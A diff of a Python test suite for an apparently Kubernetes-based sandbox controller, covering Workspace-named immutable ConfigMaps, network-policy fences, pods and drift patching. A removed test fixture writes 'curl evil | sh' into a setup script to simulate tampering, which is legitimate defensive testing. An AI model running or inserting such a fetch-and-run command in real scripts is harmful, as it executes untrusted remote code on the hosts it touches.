@@ -53,7 +53,7 @@ def world(body: Obj | None = None, **parts: Any) -> SandboxWorld:
     base = SandboxWorld(
         body,
         Loaded("sbx", spec),
-        Loaded("ws", WorkspaceSpec(setup=["make"])),
+        Loaded("ws", WorkspaceSpec(setup=["make"]), uid="ws-uid"),
         Loaded("pol", SandboxPolicySpec()) if spec.policy_ref else None,
         namespace_uid="ns-uid",
     )
@@ -66,7 +66,7 @@ def settled(**parts: Any) -> SandboxWorld:
     made = {w.obj["metadata"]["name"]: w.obj for w in first.writes if isinstance(w, Create)}
     volume = parts.pop("volume", BOUND)
     owned = {
-        "configmap": made["sbx-files"],
+        "files": tuple(obj for obj in made.values() if obj["kind"] == "ConfigMap"),
         "baseline": made["paddock-baseline"],
         "network_policy": made["paddock-no-policy"],
         "pvc": {**made["sbx-workspace"], **volume},
@@ -311,11 +311,13 @@ def test_a_new_sandbox_makes_its_files_volume_and_pod_and_is_fenced_in_first(cas
     made = [w.obj for w in plan.writes if isinstance(w, Create)]
     assert len(made) == len(plan.writes)
     by_name = {obj["metadata"]["name"]: obj for obj in made}
+    files = made[0]["metadata"]["name"]
+    assert files.startswith("ws.")  # the Workspace's (see below)
     # The baseline and the fence come before the pod, which no write leaves unfenced.
     assert [obj["metadata"]["name"] for obj in made] == [
-        "sbx-files", "paddock-baseline", fence, "sbx-workspace", "sbx",
+        files, "paddock-baseline", fence, "sbx-workspace", "sbx",
     ]  # fmt: skip
-    for name in ("sbx-files", "sbx-workspace", "sbx"):
+    for name in ("sbx-workspace", "sbx"):
         assert controller(by_name[name]) == ("Sandbox", "uid-1")
     assert controller(by_name["paddock-baseline"]) == ("Namespace", "ns-uid")
     assert controller(by_name[fence]) == owner
@@ -374,19 +376,45 @@ def test_a_settled_sandbox_plans_no_write_and_no_event_the_second_time() -> None
     assert again.status.to_api() == first.status.to_api()
 
 
-def test_a_drifted_configmap_or_network_policy_is_patched_back() -> None:
+def test_a_drifted_fence_is_patched_back() -> None:
     base = settled(pod=ready_pod())
-    assert base.configmap is not None
     assert base.network_policy is not None
-    drifted = replace(
-        base,
-        configmap={**base.configmap, "data": {"setup.sh": "curl evil | sh"}},
-        network_policy={**base.network_policy, "spec": {"podSelector": {}}},
-    )
-    plan = decide(drifted)
-    assert kinds(plan, Patch) == ["ConfigMap", "NetworkPolicy"]
-    patch = next(w for w in plan.writes if isinstance(w, Patch) and w.kind == "ConfigMap")
-    assert patch.body["data"] == base.configmap["data"]
+    drifted = replace(base, network_policy={**base.network_policy, "spec": {"podSelector": {}}})
+    (patch,) = [w for w in decide(drifted).writes if isinstance(w, Patch)]
+    assert (patch.kind, patch.name) == ("NetworkPolicy", "paddock-no-policy")
+    assert patch.body["spec"] == base.network_policy["spec"]
+
+
+def test_the_files_configmap_is_the_workspaces_named_by_what_it_holds_and_immutable() -> None:
+    first = decide(world())
+    (files,) = [
+        w.obj for w in first.writes if isinstance(w, Create) and w.obj["kind"] == "ConfigMap"
+    ]
+    assert files["immutable"] is True
+    assert controller(files) == ("Workspace", "ws-uid")
+    (volume,) = [v for v in created_pod(first)["spec"]["volumes"] if "configMap" in v]
+    assert volume["configMap"]["name"] == files["metadata"]["name"]
+    # Another sandbox of the Workspace mounts the same; a changed Workspace, another one.
+    other = decide(world(sandbox(name="other")))
+    assert files in [w.obj for w in other.writes if isinstance(w, Create)]
+    changed = decide(world(workspace=Loaded("ws", WorkspaceSpec(setup=["make all"]), uid="ws-uid")))
+    assert files not in [w.obj for w in changed.writes if isinstance(w, Create)]
+    # One that exists is not made again, whatever sandbox looks.
+    assert "ConfigMap" not in kinds(decide(world(files=(files,))), Create)
+
+
+def created_pod(plan: Plan) -> Obj:
+    (pod,) = [w.obj for w in plan.writes if isinstance(w, Create) and w.obj["kind"] == "Pod"]
+    return pod
+
+
+def test_a_pod_not_yet_started_whose_files_are_gone_is_made_again() -> None:
+    base = settled(pod=pod("Pending"))
+    gone = {"name": "files", "configMap": {"name": "ws.0123456789abcdef.paddock-files"}}
+    stranded = {**base.pod, "spec": {"volumes": [gone]}}
+    assert kinds(decide(replace(base, pod=stranded)), Delete) == ["Pod"]
+    running = {**stranded, "status": {"phase": "Running"}}  # mounted already: kept
+    assert "Pod" not in kinds(decide(replace(base, pod=running)), Delete)
 
 
 def test_pausing_deletes_the_pod_and_keeps_the_volume() -> None:
@@ -500,9 +528,11 @@ FOREIGN = {
         "PersistentVolumeClaim",
         lambda w: {"pvc": {**w.pvc, "metadata": {**w.pvc["metadata"], "ownerReferences": []}}},
     ),
-    "configmap": (
+    "files": (
         "ConfigMap",
-        lambda w: {"configmap": {**w.configmap, "metadata": {"name": "sbx-files"}}},
+        lambda w: {
+            "files": ({**w.files[0], "metadata": {"name": w.files[0]["metadata"]["name"]}},)
+        },
     ),
     "network_policy": (
         "NetworkPolicy",
@@ -540,10 +570,11 @@ def test_a_paused_sandbox_deletes_only_its_own_pod_as_read() -> None:
 
 def test_a_drift_patch_carries_the_version_it_was_read_at() -> None:
     base = settled(pod=ready_pod())
-    assert base.configmap is not None
-    drifted = {**base.configmap, "data": {}, "metadata": {**base.configmap["metadata"]}}
+    assert base.network_policy is not None
+    drifted = {**base.network_policy, "spec": {}, "metadata": {**base.network_policy["metadata"]}}
     drifted["metadata"]["resourceVersion"] = "41"
-    (patch,) = [w for w in decide(replace(base, configmap=drifted)).writes if isinstance(w, Patch)]
+    plan = decide(replace(base, network_policy=drifted))
+    (patch,) = [w for w in plan.writes if isinstance(w, Patch)]
     assert patch.body["metadata"] == {"resourceVersion": "41"}
 
 
